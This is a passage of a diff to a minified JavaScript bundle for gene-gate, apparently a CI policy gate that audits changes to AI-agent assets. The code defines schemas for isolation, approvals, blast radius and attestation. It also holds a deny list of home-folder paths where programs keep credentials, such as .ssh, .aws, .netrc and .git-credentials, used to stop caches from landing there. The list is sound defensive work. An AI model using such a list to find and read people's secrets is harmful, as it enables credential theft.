@@ -1,425 +1,442 @@
-"use strict";exports.id=633,exports.ids=[633],exports.modules={59490:function(A,t){Object.defineProperty(t,"__esModule",{value:!0}),t.
-groupBy=s;function s(e,n){const i=new Map;for(const a of e){const w=n(a),g=i.get(w);g?g.push(a):i.set(w,[a])}return i}},
+"use strict";exports.id=633,exports.ids=[633],exports.modules={2833:function(A,t,s){Object.defineProperty(t,"__esModule",{value:!0}),
+t.DIGEST=void 0,t.digestOf=c;function e(){const r=s(77598);return e=function(){return r},r}const n=t.DIGEST=/^sha256:[0-9a-f]{64}$/;
+function c(r){return`sha256:${(0,e().hash)("sha256",r)}`}},59490:function(A,t){Object.defineProperty(t,"__esModule",{value:!0}),
+t.groupBy=s;function s(e,n){const c=new Map;for(const r of e){const y=n(r),g=c.get(y);g?g.push(r):c.set(y,[r])}return c}},
 27576:function(A,t,s){Object.defineProperty(t,"__esModule",{value:!0}),t.countingSchema=t.changeBlastRadiusSchema=void 0,
-t.farFrom=w,t.geneBlastRadiusSchema=void 0,t.isCloseTo=a;function e(){const d=s(7723);return e=function(){return d},d}function n(){
-const d=s(39763);return n=function(){return d},d}const i=.8;function a(d,S){return S>i*d}function w(d){return Math.max(1,
-Math.floor(i*d))}const g=e().object({files:e().int().nonnegative(),lines:e().int().nonnegative(),exempt_files:e().int().
+t.farFrom=y,t.geneBlastRadiusSchema=void 0,t.isCloseTo=r;function e(){const h=s(7723);return e=function(){return h},h}function n(){
+const h=s(39763);return n=function(){return h},h}const c=.8;function r(h,_){return _>c*h}function y(h){return Math.max(1,
+Math.floor(c*h))}const g=e().object({files:e().int().nonnegative(),lines:e().int().nonnegative(),exempt_files:e().int().
 nonnegative(),exempt_lines:e().int().nonnegative()}),o=t.geneBlastRadiusSchema=g.extend({max_files:e().int().nonnegative(),
 default_limit:e().literal(!0).exactOptional().describe("The gene declares no valid `max_files`, so the default applies."),
 severity:e().enum(n().BLAST_SEVERITIES),message:e().string().exactOptional().describe("The severity in the words of the \
-protocol\u2019s reference engine.")}),h=e().enum(["asset_store","validation_script","reference"]),c=e().enum(["binary","\
-long_lines","generated","no_diff"]),r=e().object({path:e().string(),lines:e().int().nonnegative(),exempt:h.exactOptional().
-describe("Why the file does not count: an asset file, a new validation script, or the `reference` counting."),veil:c.exactOptional().
+protocol\u2019s reference engine.")}),l=e().enum(["asset_store","validation_script","reference"]),m=e().enum(["binary","\
+long_lines","generated","no_diff"]),a=e().object({path:e().string(),lines:e().int().nonnegative(),exempt:l.exactOptional().
+describe("Why the file does not count: an asset file, a new validation script, or the `reference` counting."),veil:m.exactOptional().
 describe("Why a diff does not show its lines: a binary file, very long lines, or a git attribute."),bytes:e().int().nonnegative().
-exactOptional().describe("The size of a binary file after the change; only the lines of code are counted.")}),u=t.countingSchema=
-e().enum(["full","reference"]),f=t.changeBlastRadiusSchema=g.extend({counting:u.describe("Which files the policy counts;\
+exactOptional().describe("The size of a binary file after the change; only the lines of code are counted.")}),i=t.countingSchema=
+e().enum(["full","reference"]),p=t.changeBlastRadiusSchema=g.extend({counting:i.describe("Which files the policy counts;\
  all others are exempt."),hard_cap_files:e().int().positive(),hard_cap_lines:e().int().positive(),renamed_files:e().int().
 nonnegative().exactOptional().describe("Files that the pull request shows as one, and that have two names here."),changed_files:e().
-array(r).exactOptional().describe("The files with the most lines, at most 100; both names of a rename.")})},38942:function(A,t,s){
+array(a).exactOptional().describe("The files with the most lines, at most 100; both names of a rename.")})},38942:function(A,t,s){
 Object.defineProperty(t,"__esModule",{value:!0}),t.evidenceLevelSchema=t.eligibilitySchema=t.EVIDENCE_LEVELS=void 0,t.isAtLeast=
-a;function e(){const o=s(7723);return e=function(){return o},o}const n=t.EVIDENCE_LEVELS=["claimed","gate","signed"],i=t.
-evidenceLevelSchema=e().enum(n);function a(o,h){return n.indexOf(o)>=n.indexOf(h)}const w=["eligible","unproven","refute\
-d"],g=t.eligibilitySchema=e().enum(w)},99462:function(A,t,s){Object.defineProperty(t,"__esModule",{value:!0}),t.suppressionSchema=
-t.subjectSchema=t.spanSchema=t.severitySchema=t.locationSchema=t.harmSchema=t.findingIdSchema=void 0;function e(){const r=s(
-7723);return e=function(){return r},r}function n(){const r=s(39763);return n=function(){return r},r}const i=t.severitySchema=
-e().enum(n().SEVERITIES),a=t.harmSchema=e().enum(n().HARMS),w=t.spanSchema=e().object({start:e().int().min(0),end:e().int().
+r;function e(){const o=s(7723);return e=function(){return o},o}const n=t.EVIDENCE_LEVELS=["claimed","gate","signed"],c=t.
+evidenceLevelSchema=e().enum(n);function r(o,l){return n.indexOf(o)>=n.indexOf(l)}const y=["eligible","unproven","refute\
+d"],g=t.eligibilitySchema=e().enum(y)},99462:function(A,t,s){Object.defineProperty(t,"__esModule",{value:!0}),t.suppressionSchema=
+t.subjectSchema=t.spanSchema=t.severitySchema=t.locationSchema=t.harmSchema=t.findingIdSchema=void 0;function e(){const a=s(
+7723);return e=function(){return a},a}function n(){const a=s(39763);return n=function(){return a},a}const c=t.severitySchema=
+e().enum(n().SEVERITIES),r=t.harmSchema=e().enum(n().HARMS),y=t.spanSchema=e().object({start:e().int().min(0),end:e().int().
 min(0)}),g=t.subjectSchema=e().object({type:e().string().exactOptional(),id:e().string().exactOptional(),command:e().string().
-exactOptional()}),o=t.findingIdSchema=e().string().regex(/^[0-9a-f]{64}(:[1-9][0-9]*)?$/),h=t.suppressionSchema=e().object(
-{reason:e().string(),expires:e().iso.date()}),c=t.locationSchema=e().object({path:e().string(),line:e().int().min(1),column:e().
+exactOptional()}),o=t.findingIdSchema=e().string().regex(/^[0-9a-f]{64}(:[1-9][0-9]*)?$/),l=t.suppressionSchema=e().object(
+{reason:e().string(),expires:e().iso.date()}),m=t.locationSchema=e().object({path:e().string(),line:e().int().min(1),column:e().
 int().min(1),end_line:e().int().min(1).exactOptional(),end_column:e().int().min(1).exactOptional()})},4190:function(A,t){
 Object.defineProperty(t,"__esModule",{value:!0}),t.HASH_FORM_NAMES=t.HASH_FORMS=void 0;const s=t.HASH_FORMS={content:"th\
 e current protocol",hub:"the hub, without `outcome.notes` and `outcome.details`",engine:"the reference engine, with `nul\
 l` for fields without a value, which it does not write",local:"the reference engine 2, without the local annotations of \
 a Gene",created:"the reference engine, before it added what it learned to the gene",unprefixed:"the current protocol, wi\
 thout `sha256:` in small letters before 64 digits"},e=t.HASH_FORM_NAMES=Object.keys(s)},41095:function(A,t,s){Object.defineProperty(
-t,"__esModule",{value:!0}),t.isolationSchema=void 0;function e(){const h=s(7723);return e=function(){return h},h}function n(){
-const h=s(39763);return n=function(){return h},h}const i=e().enum(["off","auto","require"]),a=e().object({memory_bytes:e().
+t,"__esModule",{value:!0}),t.isolationSchema=void 0;function e(){const l=s(7723);return e=function(){return l},l}function n(){
+const l=s(39763);return n=function(){return l},l}const c=e().enum(["off","auto","require"]),r=e().object({memory_bytes:e().
 int().positive(),memory_limited_by:e().enum(["control_group","supervisor"]).describe("The kernel enforces the limit on t\
 he control group of a command, or a process of the gate checks the memory of a command at intervals."),processes:e().int().
-positive(),open_files:e().int().positive(),file_bytes:e().int().positive(),written_bytes:e().int().positive()}),w=e().object(
+positive(),open_files:e().int().positive(),file_bytes:e().int().positive(),written_bytes:e().int().positive()}),y=e().object(
 {name:e().string(),held:e().boolean(),required:e().boolean()}),g=e().object({from:e().string(),reason:e().string()}),o=t.
-isolationSchema=e().object({level:e().enum(n().ISOLATION_LEVELS),description:e().string(),requested:i.exactOptional(),launcher:e().
-string().exactOptional().describe("How the gate is allowed to create namespaces."),limits:a.exactOptional().describe("Th\
-e limits of each command."),probes:e().array(w).exactOptional().describe("The sandbox self-test: what a program that is \
+isolationSchema=e().object({level:e().enum(n().ISOLATION_LEVELS),description:e().string(),requested:c.exactOptional(),launcher:e().
+string().exactOptional().describe("How the gate is allowed to create namespaces."),limits:r.exactOptional().describe("Th\
+e limits of each command."),probes:e().array(y).exactOptional().describe("The sandbox self-test: what a program that is \
 started like the commands could not do."),downgrades:e().array(g).exactOptional().describe("Stronger containment that th\
 is machine does not support, and why."),untrusted:e().literal(!0).exactOptional().describe("The isolation and all outcom\
 es were reported by a runner that the change controls.")})},54441:function(A,t,s){Object.defineProperty(t,"__esModule",{
 value:!0}),t.levelSchema=t.appliedLevelSchema=t.RULE_GROUPS=t.LEVELS=void 0;function e(){const o=s(7723);return e=function(){
-return o},o}function n(){const o=s(99462);return n=function(){return o},o}const i=t.RULE_GROUPS=["size","log","hashes","\
-schema","content","evidence","environment"],a=t.LEVELS=["off","warning","error"],w=t.levelSchema=e().enum(a),g=t.appliedLevelSchema=
-e().object({rules:e().string().describe("The rule or the group of rules that the policy names."),level:w,from:n().severitySchema.
+return o},o}function n(){const o=s(99462);return n=function(){return o},o}const c=t.RULE_GROUPS=["size","log","hashes","\
+schema","content","evidence","environment"],r=t.LEVELS=["off","warning","error"],y=t.levelSchema=e().enum(r),g=t.appliedLevelSchema=
+e().object({rules:e().string().describe("The rule or the group of rules that the policy names."),level:y,from:n().severitySchema.
 describe("The severity without the policy."),reason:e().string().exactOptional(),until:e().iso.date().exactOptional().describe(
 "The last day (UTC) of the level.")})},54123:function(A,t,s){Object.defineProperty(t,"__esModule",{value:!0}),t.outcomeSchema=
-void 0;function e(){const h=s(7723);return e=function(){return h},h}const n=e().object({head:e().string(),tail:e().string(),
-bytes:e().int().nonnegative(),truncated:e().boolean()}),i=e().object({created:e().array(e().string()),changed:e().array(
+void 0;function e(){const l=s(7723);return e=function(){return l},l}const n=e().object({head:e().string(),tail:e().string(),
+bytes:e().int().nonnegative(),truncated:e().boolean()}),c=e().object({created:e().array(e().string()),changed:e().array(
 e().string()),deleted:e().array(e().string()),totals:e().object({created:e().int().nonnegative(),changed:e().int().nonnegative(),
 deleted:e().int().nonnegative()}).exactOptional().describe("The number of paths of each kind, if not all are listed."),complete:e().
-literal(!1).exactOptional().describe("The lists are incomplete; absent if they contain everything.")}),a=e().object({peak_memory_bytes:e().
-int().nonnegative().exactOptional(),cpu_ms:e().int().nonnegative().exactOptional()}),w=e().enum(["passed","failed","time\
+literal(!1).exactOptional().describe("The lists are incomplete; absent if they contain everything.")}),r=e().object({peak_memory_bytes:e().
+int().nonnegative().exactOptional(),cpu_ms:e().int().nonnegative().exactOptional()}),y=e().enum(["passed","failed","time\
 d_out","blocked","skipped","crashed","not_runnable","error"]),g=e().enum(["memory_bytes","processes","written_bytes"]),o=t.
-outcomeSchema=e().object({status:w,exit_code:e().int().nullable(),signal:e().string().nullable(),started_at:e().iso.datetime(),
-duration_ms:e().int().nonnegative(),reason:e().string().exactOptional(),stdout:n,stderr:n,side_effects:i.exactOptional().
+outcomeSchema=e().object({status:y,exit_code:e().int().nullable(),signal:e().string().nullable(),started_at:e().iso.datetime(),
+duration_ms:e().int().nonnegative(),reason:e().string().exactOptional(),stdout:n,stderr:n,side_effects:c.exactOptional().
 describe("What the command wrote to its private copy of the checkout, which is discarded."),checkout_modified:e().array(
 e().string()).exactOptional().describe("Files of the checkout that differ from the audited ones after the command."),checkout_changed:e().
 array(e().string()).exactOptional().describe("Files of the checkout that something other than the command changed meanwh\
 ile."),left_out:e().array(e().string()).exactOptional().describe("Files of the checkout that the failed command mentions\
  and did not see, because they are not in the commit."),root:e().string().exactOptional().describe("The root of the chec\
 kout as the command saw it; only if it did not pass and its output names it."),limits_hit:e().array(g).exactOptional().describe(
-"Limits that the command reached; absent if none is known."),resources:a.exactOptional().describe("Usage of the command \
+"Limits that the command reached; absent if none is known."),resources:r.exactOptional().describe("Usage of the command \
 and all of its descendants, if the machine reports it."),reused:e().literal(!0).exactOptional().describe("The result of \
 the same Plan in another gene; it ran once.")})},78374:function(A,t,s){Object.defineProperty(t,"__esModule",{value:!0}),
 t.shardCountSchema=t.prepareSchema=t.platformSchema=t.judgedShardSchema=t.eventNameSchema=t.MAX_SHARDS=void 0;function e(){
-const f=s(7723);return e=function(){return f},f}function n(){const f=s(41095);return n=function(){return f},f}function i(){
-const f=s(54123);return i=function(){return f},f}function a(){const f=s(13970);return a=function(){return f},f}const w=t.
+const p=s(7723);return e=function(){return p},p}function n(){const p=s(41095);return n=function(){return p},p}function c(){
+const p=s(54123);return c=function(){return p},p}function r(){const p=s(13970);return r=function(){return p},p}const y=t.
 eventNameSchema=e().enum(["pull_request","merge_group","push","workflow_dispatch","range","worktree","index"]),g=t.platformSchema=
-e().enum(["darwin","linux","win32"]),o=t.MAX_SHARDS=256,h=t.shardCountSchema=e().int().min(1).max(o),c=e().object({index:h,
-of:h}),r=t.judgedShardSchema=c.extend({genes:e().int().nonnegative().describe("Number of genes in the shard."),verdict:a().
-verdictSchema.describe("The verdict about these genes alone.")}),u=t.prepareSchema=e().object({contained:e().boolean().describe(
+e().enum(["darwin","linux","win32"]),o=t.MAX_SHARDS=256,l=t.shardCountSchema=e().int().min(1).max(o),m=e().object({index:l,
+of:l}),a=t.judgedShardSchema=m.extend({genes:e().int().nonnegative().describe("Number of genes in the shard."),verdict:r().
+verdictSchema.describe("The verdict about these genes alone.")}),i=t.prepareSchema=e().object({contained:e().boolean().describe(
 "False if this machine has no namespaces: the lines could reach all that the gate can."),isolation:n().isolationSchema,lines:e().
-array(e().object({command:e().string(),outcome:i().outcomeSchema})),written:e().array(e().string()).describe("Files and \
+array(e().object({command:e().string(),outcome:c().outcomeSchema})),written:e().array(e().string()).describe("Files and \
 directories that are new in the checkout, sorted; a limited number.")})},13970:function(A,t,s){Object.defineProperty(t,"\
 __esModule",{value:!0}),t.verdictSchema=t.riskSchema=t.nextActorSchema=t.confirmationSchema=t.commandVerdictSchema=t.approvalSchema=
-void 0;function e(){const c=s(7723);return e=function(){return c},c}function n(){const c=s(39763);return n=function(){return c},
-c}const i=t.verdictSchema=e().enum(["pass","warn","fail","error","needs_approval"]),a=t.nextActorSchema=e().enum(["done",
-"agent","human","undecided"]),w=t.commandVerdictSchema=e().enum(["allow","warn","block"]),g=t.riskSchema=e().enum(["safe",
-"write","dangerous"]),o=t.confirmationSchema=e().enum(n().CONFIRMATIONS),h=t.approvalSchema=e().object({user:e().string(),
+void 0;function e(){const m=s(7723);return e=function(){return m},m}function n(){const m=s(39763);return n=function(){return m},
+m}const c=t.verdictSchema=e().enum(["pass","warn","fail","error","needs_approval"]),r=t.nextActorSchema=e().enum(["done",
+"agent","human","undecided"]),y=t.commandVerdictSchema=e().enum(["allow","warn","block"]),g=t.riskSchema=e().enum(["safe",
+"write","dangerous"]),o=t.confirmationSchema=e().enum(n().CONFIRMATIONS),l=t.approvalSchema=e().object({user:e().string(),
 at:e().iso.datetime(),pull_request:e().int().positive().exactOptional().describe("The pull request of the review; severa\
-l can be in one merge group.")})},39763:function(A,t){Object.defineProperty(t,"__esModule",{value:!0}),t.SEVERITIES=t.PROFILE_NAMES=
-t.ISOLATION_LEVELS=t.HARMS=t.GENE_PROFILES=t.CONFIRMATIONS=t.BLAST_SEVERITIES=t.ASSET_TYPES=void 0;const s=t.ASSET_TYPES=
-["Gene","Capsule","EvolutionEvent","ValidationReport","Mutation","AntiGene"],e=t.BLAST_SEVERITIES=["within_limit","appro\
-aching_limit","exceeded","critical_overrun","hard_cap_breach"],n=t.CONFIRMATIONS=["standard","strong","very_strong"],i=t.
-ISOLATION_LEVELS=["none","process_group","namespaces"],a=t.HARMS=["danger","broken","bookkeeping"],w=t.SEVERITIES=["erro\
-r","warning","notice"],g=t.GENE_PROFILES=["evolver","validator"],o=t.PROFILE_NAMES=[...g,"curated","workspace"]},54062:function(A,t){
-Object.defineProperty(t,"__esModule",{value:!0}),t.enforcementOn=e,t.settingOf=s;function s(n){return typeof n=="string"?
-{level:n}:n}function e(n,i){if(typeof i=="string")return{mode:i};const{mode:a,until:w}=i;return w<n?{mode:"block"}:{mode:a,
-until:w}}},99535:function(A,t,s){Object.defineProperty(t,"__esModule",{value:!0}),t.inputSchemas=g,t.key=n,t.keysByPath=
-w,t.objectOf=a,t.section=i;function e(){const o=s(7723);return e=function(){return o},o}function n(o){const{schema:h,description:c,
-strictness:r,input:u,example:f}=o,d=h.default(o.default).describe(c);return{schema:f===void 0?d:d.meta({examples:[f]}),strictness:r,
-input:u}}function i(o,h,c=r=>r){const r={};return{schema:c(a(h)).prefault(r).describe(o),keys:h}}function a(o){const h=Object.
-entries(o).map(([c,{schema:r}])=>[c,r]);return e().strictObject(Object.fromEntries(h))}function w(o){const h=Object.entries(
-o).flatMap(([c,r])=>"keys"in r?Object.entries(r.keys).map(([u,f])=>[`${c}.${u}`,f]):[[c,r]]);return new Map(h)}function g(o){
-const h=[...w(o).values()].flatMap(({input:c})=>c??[]);return Object.fromEntries(h.map(({name:c,schema:r})=>[c,r]))}},72720:function(A,t,s){
-Object.defineProperty(t,"__esModule",{value:!0}),t.compileLinear=i;function e(){const a=s(86750);return e=function(){return a},
-a}const n=1e3;function i(a,{ignoreCase:w,multiline:g,dotAll:o}={}){if(a.length>n)return{error:`is longer than ${n} chara\
-cters`};try{const h=e().RE2JS.compile(a,(w?e().RE2JS.CASE_INSENSITIVE:0)|(g?e().RE2JS.MULTILINE:0)|(o?e().RE2JS.DOTALL:0));
-return{matches:c=>h.test(c)}}catch(h){return{error:h.message}}}},74580:function(A,t,s){Object.defineProperty(t,"__esModu\
-le",{value:!0}),t.repositoryPath=t.repositoryGlob=t.homeFolder=void 0;function e(){const h=s(7723);return e=function(){return h},
-h}function n(){const h=s(32854);return n=function(){return h},h}const i=t.repositoryPath=e().string().min(1).refine(h=>(0,n().
-normalise)(h)!==void 0,{error:"expected a path from the root of the repository, without a leading / and without .."}).refine(
-h=>h.trim()===h,{error:"expected a path without blanks around it"}),a=t.repositoryGlob=i.refine(h=>!/^!(?!\()|^["'`].*["'`]$/.
-test(h),{error:"expected a glob without a negation and without quotes around it"}),w=".ssh .gnupg .aws .azure .kube .doc\
-ker .netrc .npmrc .yarnrc .yarnrc.yml .pypirc .gitconfig .git-credentials .password-store .mozilla .thunderbird .pki .te\
-rraform.d .vault-token .bashrc .bash_history .profile .zshrc .zsh_history .m2/settings.xml .m2/settings-security.xml .gr\
-adle/gradle.properties .cargo/credentials .cargo/credentials.toml .config/gh .config/gcloud .config/git .config/hub .con\
-fig/op .config/rclone .config/doctl .config/containers .config/chromium .config/google-chrome .local/share/keyrings .nug\
-et/NuGet .gem/credentials .composer/auth.json".split(" "),g=t.homeFolder=e().string().regex(/^[^/\\\0]+(?:\/[^/\\\0]+)*$/,
-"expected a path below the home directory, such as .cache/x").refine(h=>!h.split("/").some(c=>c==="."||c===".."),{error:"\
-expected a path without `.` and `..`"}).refine(h=>!w.some(c=>o(c,h)||o(h,c)),{error:"expected a cache; programs store cr\
-edentials or settings here"});function o(h,c){return`${c}/`.startsWith(`${h}/`)}},11160:function(A,t,s){Object.defineProperty(
-t,"__esModule",{value:!0}),t.policySchema=t.policyInputsSchema=t.POLICY_KEYS=void 0,t.withEntry=m;function e(){const j=s(
-28940);return e=function(){return j},j}function n(){const j=s(7723);return n=function(){return j},j}function i(){const j=s(
-87952);return i=function(){return j},j}function a(){const j=s(99535);return a=function(){return j},j}function w(){const j=s(
-2056);return w=function(){return j},j}function g(){const j=s(17997);return g=function(){return j},j}function o(){const j=s(
-21822);return o=function(){return j},j}function h(){const j=s(10729);return h=function(){return j},j}function c(){const j=s(
-93300);return c=function(){return j},j}function r(){const j=s(32710);return r=function(){return j},j}function u(){const j=s(
-52491);return u=function(){return j},j}function f(){const j=s(39432);return f=function(){return j},j}function d(){const j=s(
-8801);return d=function(){return j},j}function S(){const j=s(96025);return S=function(){return j},j}function k(){const j=s(
-92328);return k=function(){return j},j}const v=["error","warning"],b={...r().commandKeys,approvals:o().approvals,fail_on:(0,a().
-key)({schema:n().enum(v),default:"error",description:"The minimum severity of a finding that fails the gate.",strictness:(0,k().
-fromLoosest)(v),input:{name:"fail-on",schema:n().enum(v)}}),...d().ruleKeys,...S().runningKeys,assets:h().assets,stores:h().
-storesKey,limits:f().limits,blast_radius:f().blastRadius,agent_files:g().agentFiles,a2a:w().a2a,ignores:d().ignores},_={
-extends:u().extendsKey,...b,branches:(0,c().branchesKey)(b)},y=t.policySchema=(0,a().objectOf)(_).check(x).check((0,c().
-checkEntries)(b,(0,a().objectOf)(b).check(x))).describe("gene-gate policy: .github/gene-gate.yml");function m(j,N){return(0,c().
-mergeEntry)(b,j,N)}const p=t.POLICY_KEYS=(0,a().keysByPath)(_),l=t.policyInputsSchema=n().object((0,a().inputSchemas)(_)).
-partial(),E=80;function x({value:j,issues:N}){const{families:O}=j;for(const[R,{name:M}]of O.entries()){if(O.findIndex(({
-name:W})=>W===M)===R)continue;const D=["families",R,"name"];N.push({code:"custom",path:D,input:M,message:"this family is\
- described twice"})}const $=[["disabled_packs",()=>(0,i().packsOf)(O),"a pack of families"],["programs",()=>(0,i().programNames)(
-O),"a program that the default profile can run"],["tool_flags",()=>(0,i().namesWithFlags)(O),"a tool or program with a t\
-able"],["experimental",()=>[...(0,i().registryOf)(O).keys()],"a family"]];for(const[R,M,D]of $){const W=j[R],K=Array.isArray(
-W)?W:Object.keys(W),B=K.length===0?[]:M();for(const[Z,z]of K.entries()){if(typeof z!="string"||B.includes(z))continue;const V=(0,e().
-closest)(z.slice(0,E),B),q=`expected the name of ${D}; did you mean ${V}?`,Y=[R,Array.isArray(W)?Z:z];N.push({code:"cust\
-om",path:Y,input:z,message:q})}}}},2056:function(A,t,s){Object.defineProperty(t,"__esModule",{value:!0}),t.a2a=void 0;function e(){
-const c=s(7723);return e=function(){return c},c}function n(){const c=s(38942);return n=function(){return c},c}function i(){
-const c=s(99535);return i=function(){return c},c}function a(){const c=s(92328);return a=function(){return c},c}const w=e().
-int().positive(),g=e().number().min(0).max(1),o=e().strictObject({repository:e().string().regex(/^[\w.-]+\/[\w.-]+$/,{error:"\
-expected owner/name"}).describe("The repository that the workflow runs for, as `owner/name`."),workflow:e().string().regex(
-/^([\w.-]+\/[\w.-]+\/)?\.github\/workflows\/[^@\s]+\.ya?ml(@refs\/\S+)?$/,{error:"expected .github/workflows/FILE.yml, o\
-r owner/name/.github/workflows/FILE.yml@REF"}).describe("The workflow that signs: a file of the repository, or a reusabl\
-e workflow of another one with its ref."),ref:e().string().regex(/^refs\/\S+$/,{error:"expected a full ref such as refs/\
-heads/main"}).default("refs/heads/main").describe("The ref that the workflow runs for."),issuer:e().url().default("https\
-://token.actions.githubusercontent.com").describe("The issuer of the workflow\u2019s identity."),policies:e().array(e().
-string().regex(/^sha256:[0-9a-f]{64}$/,{error:"expected sha256: and 64 digits"})).min(1).optional().describe("Digests of\
- the accepted policies. Default: only the policy of the promotion."),max_age_days:e().int().positive().default(90).describe(
-"Days after which a signed decision no longer counts.")}),h=t.a2a=(0,i().section)("What `gene-gate promote` requires of \
-an asset.",{min_score:(0,i().key)({schema:g,default:.7,description:"Minimum score of an outcome that can be promoted.",strictness:a().
-higherIsStricter}),max_files:(0,i().key)({schema:w,default:5,description:"Maximum number of files that a promoted Capsul\
-e touched.",strictness:a().lowerIsStricter}),max_lines:(0,i().key)({schema:w,default:200,description:"Maximum number of \
-added and deleted lines of a promoted Capsule.",strictness:a().lowerIsStricter}),min_success_streak:(0,i().key)({schema:w,
-default:2,description:"Consecutive successes, counted from the events, that a promotion requires.",strictness:a().higherIsStricter}),
-confidence_factor:(0,i().key)({schema:g,default:.6,description:"Factor by which the confidence of a promoted Capsule is \
-multiplied.",strictness:a().lowerIsStricter}),require_evidence:(0,i().key)({schema:n().evidenceLevelSchema,default:"gate",
-description:"Minimum evidence that the commands of a Gene passed: `claimed`, `gate` or `signed`, which also applies to C\
-apsules and EvolutionEvents. See docs/promotion.md#evidence.",strictness:(0,a().fromLoosest)(n().EVIDENCE_LEVELS)}),attestation:(0,i().
-key)({schema:e().array(o),default:[],description:"Workflows whose signed promotions count as evidence for `gene-gate pro\
-mote --attestation`; without an entry, none does.",strictness:a().fewerIsStricter,example:[{repository:"agents/genes",workflow:"\
-.github/workflows/gene-gate.yml"}]})})},17997:function(A,t,s){Object.defineProperty(t,"__esModule",{value:!0}),t.agentFiles=
-void 0;function e(){const c=s(7723);return e=function(){return c},c}function n(){const c=s(99535);return n=function(){return c},
-c}function i(){const c=s(74580);return i=function(){return c},c}function a(){const c=s(92328);return a=function(){return c},
-c}const w=["off","warn","approve","error"],g=e().strictObject({accept:e().string().regex(/^sha256:[0-9a-f]{64}$/,{error:"\
-expected sha256: and 64 digits"}).describe("The digest of a command or setting, as `gene-gate audit` prints it."),reason:e().
-string().trim().min(1).describe("Shown with each finding."),expires:e().iso.date({error:"expected a date such as 2027-01\
--31"}).describe("The last day (UTC); after it, the findings count again.")});function o(c){return Math.min(w.indexOf(c),
-w.indexOf("approve"))}const h=t.agentFiles=(0,n().section)("Files from which agents and editors run commands automatical\
-ly.",{level:(0,n().key)({schema:e().enum(w),default:"warn",description:"What happens if a change edits commands that run\
- automatically: `warn` shows it, `approve` asks `approvals.gate` people about all that is more than a notice, `error` fa\
-ils for what is dangerous or cannot be read, `off` reads none of the files.",strictness:(0,a().ordered)((c,r)=>o(r)-o(c))}),
-include:(0,n().key)({schema:e().array(i().repositoryGlob).min(1),default:["**"],description:"Globs of the files that are\
- read, of all that a format names.",strictness:a().moreIsStricter}),exclude:(0,n().key)({schema:e().array(i().repositoryGlob),
-default:[],description:"Globs of excluded files, such as templates.",strictness:a().fewerIsStricter,example:["templates/\
-**"]}),rules:(0,n().key)({schema:e().array(g),default:[],description:"Commands and settings that a person accepts until \
-a day, each with the digest of its content and of the scripts behind it: an edit of either counts again.",strictness:a().
-fewerIsStricter,example:[{accept:`sha256:${"0".repeat(64)}`,reason:"our formatter",expires:"2027-06-30"}]})})},21822:function(A,t,s){
-Object.defineProperty(t,"__esModule",{value:!0}),t.approvals=void 0;function e(){const o=s(7723);return e=function(){return o},
-o}function n(){const o=s(99535);return n=function(){return o},o}function i(){const o=s(74580);return i=function(){return o},
-o}function a(){const o=s(92328);return a=function(){return o},o}const w=e().int().min(1).max(10),g=t.approvals=(0,n().section)(
-"Who approves commands that require confirmation.",{strong:(0,n().key)({schema:w,default:1,description:"Number of people\
- who must approve a dangerous command before it runs.",strictness:a().higherIsStricter}),very_strong:(0,n().key)({schema:w,
-default:2,description:"Number of people who must approve an experimental command before it runs.",strictness:a().higherIsStricter}),
-gate:(0,n().key)({schema:e().int().min(0).max(10),default:1,description:"Number of people who must approve a change that\
- weakens the gate. With 0, for a sole maintainer, it gets a warning.",strictness:a().higherIsStricter}),people:(0,n().key)(
-{schema:e().array(e().string().min(1)),default:[],description:"Logins whose reviews count, if they have write access; an\
- empty list counts everyone with write access.",strictness:(0,a().emptyIsLoosest)((o,h)=>o===h)}),unaffected_by:(0,n().key)(
-{schema:e().array(i().repositoryGlob),default:[],description:"Globs of files outside the scope of an approval. Do not li\
-st files that a command reads.",strictness:a().fewerIsStricter,example:["docs/**","*.md"]})},o=>o.refine(({strong:h,very_strong:c})=>c>=
-h,{path:["very_strong"],error:"expected at least as many as for strong confirmation"}))},10729:function(A,t,s){Object.defineProperty(
-t,"__esModule",{value:!0}),t.storesKey=t.assets=void 0;function e(){const r=s(7723);return e=function(){return r},r}function n(){
-const r=s(32854);return n=function(){return r},r}function i(){const r=s(99535);return i=function(){return r},r}function a(){
-const r=s(74580);return a=function(){return r},r}function w(){const r=s(92328);return w=function(){return r},r}const g=[
-"**/{assets/gep,.evolver/gep,.evomap/assets}/{genes,capsules,anti-genes}*.{json,jsonl}","**/{assets/gep,.evolver/gep,.ev\
-omap/assets}/{events,events.*,external_candidates}.jsonl","**/*.seed.json","**/data/default_genes.json"],o=t.assets=(0,i().
-section)("Where the repository keeps its assets.",{include:(0,i().key)({schema:e().array(a().repositoryGlob).min(1),default:[
-...g],description:"Globs of the asset files; replaces the default list.",strictness:(0,w().incomparable)("An asset file \
-is audited, and does not count towards a blast radius.")}),max_file_bytes:(0,i().key)({schema:e().number().int().positive(),
-default:16*1024*1024,description:"Maximum size of an asset file; a larger file is an error. Of an audit log, the newest \
-records up to this size are read.",strictness:w().lowerIsStricter})}),h=e().strictObject({path:a().repositoryPath.describe(
-"The directory of a store, or an asset file."),root:a().repositoryPath.describe("The directory in which its commands run\
-; `.` is git\u2019s root.")}),c=t.storesKey=(0,i().key)({schema:e().array(h).refine(r=>new Set(r.map(({path:u})=>(0,n().
-normalise)(u))).size===r.length,{error:"expected one root for each path"}),default:[],description:"Where the commands of\
- stores run, if not in the nearest directory above with a package.json, else in git\u2019s root. The longest path that contai\
-ns the asset file counts.",strictness:{...(0,w().baseCounts)(),loosens:()=>!0},example:[{path:"skills/evolver/assets/gep",
-root:"."}]})},93300:function(A,t,s){Object.defineProperty(t,"__esModule",{value:!0}),t.branchesKey=g,t.checkEntries=c,t.
-mergeEntry=h;function e(){const r=s(23404);return e=function(){return r},r}function n(){const r=s(7723);return n=function(){
-return r},r}function i(){const r=s(99535);return i=function(){return r},r}function a(){const r=s(92328);return a=function(){
-return r},r}const w={compare:(r,u)=>a().moreIsStricter.compare(Object.entries(r),Object.entries(u)),combine:(r,u)=>{const f=S=>(0,e().
-canonicalize)(r[S])===(0,e().canonicalize)(u[S]);return Object.keys(r).every(S=>!(S in u)||f(S))?{value:{...r,...u}}:void 0},
-loosens:()=>!0};function g(r){return(0,i().key)({schema:n().record(n().string().min(1),n().strictObject(o(r))),default:{},
-description:"Protected branches besides the default branch, by name or glob, with the keys that differ there; only in th\
-e policy of the default branch. Of several entries that match, the stricter value of each key applies.",strictness:w,example:{
-"release/*":{fail_on:"warning"},next:{}}})}function o(r){return Object.fromEntries(Object.entries(r).map(([u,f])=>[u,"ke\
